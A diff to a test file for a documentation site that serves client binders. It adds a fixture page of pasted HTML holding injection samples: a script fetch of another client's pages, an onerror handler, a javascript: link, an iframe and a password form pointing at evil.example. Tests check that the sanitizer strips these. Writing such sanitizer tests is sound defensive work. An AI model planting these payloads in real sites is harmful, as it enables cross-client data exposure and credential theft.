@@ -33,6 +33,46 @@ beforeAll(async () => {
       ...FIXTURE_MSP_WITH_HISTORY,
       'content/clients/acme-dental/binder/ups.md':
         '---\ntitle: Power\norder: 40\n---\n:::note\nThe UPS is on the server closet shelf.\n:::\n\n## How to get help\n\nCall the office.\n',
+      // HTML as people paste it into a binder, with what must never run (issue "Adopted by a real MSP").
+      'content/clients/acme-dental/binder/pasted.md': [
+        '---',
+        'title: Pasted from the old wiki',
+        'order: 90',
+        '---',
+        ':::caution',
+        'Kept from the old wiki.',
+        ':::',
+        '',
+        '## Ports',
+        '',
+        '| Port | Use |',
+        '|:-----|----:|',
+        '| 443 | <kbd>HTTPS</kbd> |',
+        '',
+        '<details>',
+        '<summary>Old firewall rules</summary>',
+        '',
+        'Kept for <abbr title="reference">ref</abbr>, line<br>break, x<sup>2</sup>.',
+        '',
+        '</details>',
+        '',
+        "<script>fetch('/clients/globex-law/binder/network/')</script>",
+        '',
+        'Photo: <img src="https://example.com/ups.png" onerror="fetch(\'/clients/globex-law/\')"> <a href="javascript:alert(1)">portal</a>',
+        '',
+        '<iframe src="https://evil.example/"></iframe>',
+        '',
+        '<form action="https://evil.example/steal"><input type="password" name="pw"></form>',
+        '',
+        '<style>body{display:none}</style>',
+        '',
+        'See <a href="./overview.md">the overview</a> and <a href="./firewall.md">the firewall</a>.',
+        '',
+        '```sh title="restore.sh"',
+        'restic restore latest',
+        '```',
+        '',
+      ].join('\n'),
     },
     { git: true },
   );
@@ -129,6 +169,15 @@ describe('links between content files', () => {
     expect(await read('staff', 'clients/acme-dental/print')).toContain('id="section-backups"');
   });
 
+  it('raw HTML links resolve like Markdown links, on the staff site and a client’s', async () => {
+    const staff = await read('staff', 'clients/acme-dental/binder/pasted');
+    expect(staff).toContain('<a href="/clients/acme-dental/binder/overview/">the overview</a>');
+    expect(staff).toContain('<a href="/clients/acme-dental/binder/firewall/">the firewall</a>');
+    const client = await read('acme-dental', 'clients/acme-dental/binder/pasted');
+    expect(client).toContain('<a href="/clients/acme-dental/binder/overview/">the overview</a>');
+    expect(client).not.toContain('/binder/firewall');
+  });
+
   it('on a client’s site, a link to an internal page is its text only', async () => {
     const overview = await read('acme-dental', 'clients/acme-dental/binder/overview');
     expect(overview).toContain('href="/clients/acme-dental/binder/backups/"');
@@ -161,6 +210,35 @@ describe('links between content files', () => {
     } finally {
       await removeCheckout(copy);
     }
+  });
+});
+
+describe('content HTML is sanitized', () => {
+  it.each(['staff', 'acme-dental'])(
+    'the %s site drops scripts, handlers, frames, forms, styles and javascript: links',
+    async (variant) => {
+      const page = await read(variant, 'clients/acme-dental/binder/pasted');
+      const main = page.slice(page.indexOf('<main'), page.indexOf('</main>'));
+      expect(main).not.toMatch(/<(?:iframe|form|input|style)\b|\son[a-z]+=|javascript:|evil\.example/i);
+      expect(main).not.toContain('/clients/globex-law/');
+      // Scripts in the page are the site's own (Expressive Code's copy button, Starlight's), none from content.
+      expect(page).not.toContain("fetch('/clients/globex-law");
+    },
+  );
+
+  it('keeps what Starlight makes and the HTML people use: asides, heading ids, tables, details, code', async () => {
+    const page = await read('staff', 'clients/acme-dental/binder/pasted');
+    expect(page).toMatch(/<aside aria-label="Caution" class="starlight-aside starlight-aside--caution"/);
+    expect(page).toMatch(/<svg[^>]*class="starlight-aside__icon"[^>]*><path d="/);
+    expect(page).toMatch(/<h2 id="ports"/);
+    expect(page).toMatch(/<div class="table-scroll" tabindex="0" role="region" aria-label="Ports"><table>/);
+    expect(page).toContain('<th style="text-align: left">Port</th>');
+    expect(page).toContain('<kbd>HTTPS</kbd>');
+    expect(page).toMatch(/<details>\s*<summary>Old firewall rules<\/summary>/);
+    expect(page).toContain('<abbr title="reference">ref</abbr>, line<br>break, x<sup>2</sup>');
+    // Expressive Code still gets the block's language and title.
+    expect(page).toMatch(/<figure class="frame[^"]*has-title/);
+    expect(page).toContain('restore.sh');
   });
 });
 
